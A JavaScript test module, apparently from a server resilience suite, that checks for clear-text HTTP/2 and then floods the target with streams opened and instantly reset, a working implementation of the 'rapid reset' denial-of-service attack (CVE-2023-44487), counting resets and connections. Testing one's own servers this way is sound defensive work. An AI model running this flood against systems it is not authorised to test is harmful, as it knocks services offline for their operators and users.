// Streams that are opened and reset at once, over and over (CVE-2023-44487, "rapid reset"), in clear text, as a proxy might speak.

import { connect } from 'node:http2';
import { beside } from './lib/crowd.mjs';

export const about = 'HTTP/2 streams that are opened and reset', on = ['sqlite'];

export const run = (kind, report) => beside(kind, report, async server => {
  const speaks = await new Promise(known => {
    const session = connect(server.url);
    session.on('error', () => known(false)).on('close', () => known(false));
    session.request({ ':path': '/healthz' }).on('response', () => (known(true), session.destroy())).on('error', () => known(false)).end();
    setTimeout(() => (known(false), session.destroy()), 5000);
  });
  report.note('HTTP/2 in clear text', speaks ? 'is spoken' : 'is not spoken: a client that begins with it is answered in HTTP/1.1 or cut off; what comes by TLS ends at the proxy');
  let over = false, resets = 0, sessions = 0;
  const attackers = Array.from({ length: 4 }, async () => {
    while (!over) {
      const session = connect(server.url);
      sessions += 1;
      let open = true;
      session.on('error', () => {}).on('close', () => (open = false)).on('goaway', () => session.destroy());
      for (const end = Date.now() + 2000; open && !over && Date.now() < end; ) {
        for (let n = 0; n < 50 && open; n++) {
          const stream = session.request({ ':path': '/sign-in' });
          stream.on('error', () => {});
          stream.close(8);
          resets += 1;
        }
        await new Promise(end => setTimeout(end, 5));
      }
      session.destroy();
      await new Promise(end => setTimeout(end, 20));
    }
  });
  return async () => {
    over = true;
    await Promise.all(attackers);
    report.note('streams opened and reset; connections', `${resets}; ${sessions}`);
  };
});
